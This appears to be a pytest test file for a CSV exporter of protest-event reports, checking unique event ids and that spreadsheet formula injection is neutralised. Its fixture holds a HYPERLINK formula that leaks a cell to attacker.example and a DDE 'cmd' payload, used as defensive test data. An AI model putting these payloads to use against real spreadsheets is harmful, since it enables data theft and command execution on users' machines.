"""Exports a user can open safely: event ids unique over the whole file and stable, and no CSV cell that a
spreadsheet would run as a formula. Files are read back with the csv module and pandas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from cronica.cli.main import main
from cronica.export.csv_safe import neutralise, original
from cronica.store import Store

REPORTS = Path(__file__).resolve().parents[1] / "data" / "reports"

# A report whose first words are spreadsheet formulas (the kind of text a scraped page can carry).
FORMULA_REPORT = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details") Police shot dead five protesters '
    "in Sacaba on Friday, November 15, the Ombudsman said.\n\n"
    "+cmd|'/C calc'!A0 Soldiers detained 40 demonstrators in Cochabamba on Saturday.\n"
)


@pytest.fixture
def formula_file(tmp_path: Path) -> Path:
    path = tmp_path / "formula.txt"
    path.write_text(FORMULA_REPORT, encoding="utf-8")
    return path


def _extract_csv(paths: list[Path], capsys: pytest.CaptureFixture[str]) -> str:
    code = main(["extract", *map(str, paths), "--published", "2019-11-20", "--format", "acled-csv"])
    assert code == 0
    return capsys.readouterr().out


def test_event_ids_are_unique_across_reports_of_one_country_and_stable_between_runs(
    formula_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    paths = [formula_file, REPORTS / "sacaba-2019-11-16.txt", REPORTS / "sacaba-2019-11-18.txt"]
    first = list(csv.DictReader(io.StringIO(_extract_csv(paths, capsys))))
    ids = [r["event_id_cnty"] for r in first]
    assert len(ids) >= 4 and {r["source"] for r in first} == set(map(str, paths))
    assert all(i.startswith("BOL") for i in ids) and len(set(ids)) == len(ids)
    # the same events get the same ids, whatever else is in the file
    alone = list(csv.DictReader(io.StringIO(_extract_csv(paths[1:], capsys))))
    assert {r["event_id_cnty"] for r in alone} <= set(ids)


def test_formula_text_in_a_report_cannot_run_when_extracted_to_csv(
    formula_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = _extract_csv([formula_file], capsys)
    rows = list(csv.DictReader(io.StringIO(out)))
    notes = [r["notes"] for r in rows]
    assert any(n.startswith("'=HYPERLINK(") for n in notes) and any(n.startswith("'+cmd|") for n in notes)
    for row in rows:
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())
    frame = pd.read_csv(io.StringIO(out))
    assert frame["latitude"].dtype.kind == "f" and (frame["latitude"] < 0).all()  # numbers stay numbers
    texts = [original(n) for n in frame["notes"]]
    assert texts[0] == " ".join(FORMULA_REPORT.split("\n\n")[0].split())


def test_export_from_the_store_neutralises_formulas_and_keeps_ids_unique(
    formula_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "s.db")
    paths = [formula_file, REPORTS / "sacaba-2019-11-16.txt", REPORTS / "sacaba-2019-11-18.txt"]
    assert main(["ingest", *map(str, paths), "--db", db, "--published", "2019-11-20", "--quiet"]) == 0
    out_file = tmp_path / "events.csv"
    assert main(["export", "--db", db, "--format", "acled-csv", "-o", str(out_file)]) == 0
    capsys.readouterr()
    with out_file.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    with Store(db) as store:
        numbers = {f"BOL{e['id']}" for e in store.events()}
    assert {r["event_id_cnty"] for r in rows} == numbers and len(rows) == len(numbers)
    frame = pd.read_csv(out_file)
    formula_notes = [n for n in frame["notes"] if "HYPERLINK" in n]
    assert formula_notes and all(n.startswith("'=") for n in formula_notes)
    assert original(formula_notes[0]).startswith('=HYPERLINK("http://attacker.example/?leak="&A1')


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-16.5611", "-16.5611"),
        ("+3", "+3"),
        ("Police fired", "Police fired"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_get_an_apostrophe(cell: str, safe: str) -> None:
    assert neutralise(cell) == safe
    assert original(neutralise(cell)) == cell
